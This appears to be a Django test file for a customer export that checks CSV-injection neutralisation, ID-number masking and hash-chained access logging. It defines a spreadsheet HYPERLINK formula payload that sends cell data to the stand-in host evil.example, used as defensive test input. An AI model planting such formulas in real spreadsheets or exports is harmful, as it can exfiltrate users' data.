"""The customer export (issue 8, point 8): no cell is a formula (OWASP CSV injection), and
identifiers are masked for readers without full rights, each exported customer logged."""

import csv
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from openpyxl import load_workbook

from approvals.selectors import pending_request_for
from approvals.services import approval_decide
from core.models import AccessLog
from core.text import mask_id_number
from customers import services
from customers.models import Customer
from tests.customers.factories import make_customer

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A2,"点击")'


def _export(client, kind, **params):
    return client.get(reverse("customers:list"), {"export": kind, **params})


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_a_formula_in_a_name_is_neutralised_in_the_csv(client, staff_user, prefix):
    """A cell starting with = + - @, tab or CR is written with a leading single quote."""
    customer = make_customer(by=staff_user, name=prefix + PAYLOAD)
    client.force_login(staff_user)

    rows = _csv_rows(_export(client, "csv"))

    [row] = [row for row in rows[1:] if row[0] == customer.number]
    assert row[1] == "'" + prefix + PAYLOAD


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_a_formula_in_a_name_is_text_in_the_xlsx(client, staff_user, prefix):
    """The workbook holds the name as a string starting with a single quote, not a formula."""
    customer = make_customer(by=staff_user, name=prefix + PAYLOAD)
    client.force_login(staff_user)

    cells = _xlsx_cells(_export(client, "xlsx"))

    [cell] = [cell for cell in cells if isinstance(cell.value, str) and PAYLOAD in cell.value]
    assert cell.data_type == "s"
    # XML reads a stored CR back as LF: what matters is the quote in front.
    assert cell.value.startswith("'") and cell.value[2:] == PAYLOAD
    assert customer.number in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells)


def test_ordinary_text_is_exported_unchanged(client, staff_user):
    """Names that are no formula keep their exact text, in both formats."""
    customer = make_customer(by=staff_user, name="昆明市五华区燃气用户 A-1")
    client.force_login(staff_user)

    csv_names = [row[1] for row in _csv_rows(_export(client, "csv"))]
    xlsx_values = [cell.value for cell in _xlsx_cells(_export(client, "xlsx"))]

    assert customer.name in csv_names and customer.name in xlsx_values


def test_every_column_is_neutralised_not_only_the_name(client, staff_user):
    """The staff member's display name is a cell too."""
    staff_user.first_name = "=1+1"
    staff_user.last_name = ""
    staff_user.save()
    make_customer(by=staff_user)
    client.force_login(staff_user)

    cells = _xlsx_cells(_export(client, "xlsx"))
    csv_cells = [value for row in _csv_rows(_export(client, "csv")) for value in row]

    assert all(cell.data_type != "f" for cell in cells)
    assert not any(value.startswith("=") for value in csv_cells)


def test_neutralise_cell_leaves_numbers_and_safe_text_alone():
    """Only text starting with a formula character changes."""
    from core.text import neutralise_cell

    assert neutralise_cell(-5) == -5
    assert neutralise_cell(None) is None
    assert neutralise_cell("KH2026000001") == "KH2026000001"
    assert neutralise_cell("a=b") == "a=b"
    assert [neutralise_cell(prefix + "x") for prefix in PREFIXES] == [
        "'" + prefix + "x" for prefix in PREFIXES]


def test_a_grant_readers_export_masks_the_id_number_and_is_logged(client, gm, staff_user):
    """Export follows the page: masked identifiers under a view grant, one log row per
    customer with the action 'export'."""
    customer = make_customer(by=staff_user)
    reader = services.access_request_create(
        requester=make_customer().sales_rep, customers=[customer], purpose="核对投诉",
        scope="view", days=1)
    approval_decide(step=pending_request_for(reader).steps.get(), by=gm, approve=True)
    client.force_login(reader.requester)

    csv_cells = [value for row in _csv_rows(_export(client, "csv")) for value in row]
    xlsx_cells = [cell.value for cell in _xlsx_cells(_export(client, "xlsx"))]

    for cells in (csv_cells, xlsx_cells):
        assert customer.id_number not in cells
        assert mask_id_number(customer.id_number) in cells

    logs = AccessLog.objects.filter(content_type=ContentType.objects.get_for_model(Customer),
                                    object_id=str(customer.pk), user=reader.requester,
                                    action="export")
    assert logs.count() == 2


def test_export_log_rows_extend_the_hash_chain_in_constant_queries(
        client, gm):
    """The export's AccessLog rows (one per customer, written through core.access) keep the hash
    chain whole, and exporting more customers takes no more queries than exporting fewer."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from core.audit import verify_chain

    make_customer()
    client.force_login(gm)
    with CaptureQueriesContext(connection) as few:
        assert _export(client, "csv").status_code == 200
    for _ in range(4):
        make_customer()
    with CaptureQueriesContext(connection) as many:
        assert _export(client, "csv").status_code == 200
    assert len(many.captured_queries) == len(few.captured_queries)
    assert AccessLog.objects.filter(user=gm, action="export").count() == 1 + 5
    checked, _head, problem = verify_chain(AccessLog)
    assert problem is None and checked >= 6


def test_full_reader_ids_agree_with_customer_access(gm, staff_user):
    """`customer_full_reader_ids` names exactly the customers `customer_access` reads in full."""
    from customers.selectors import customer_access, customer_full_reader_ids

    own = make_customer(by=staff_user)
    other = make_customer()
    for user in (gm, staff_user, other.sales_rep):
        expected = {c.pk for c in (own, other)
                    if (access := customer_access(user=user, customer=c)) and access.full}
        assert customer_full_reader_ids(user=user, customers=[own, other]) == expected
    assert customer_full_reader_ids(user=staff_user, customers=[own, other]) == {own.pk}
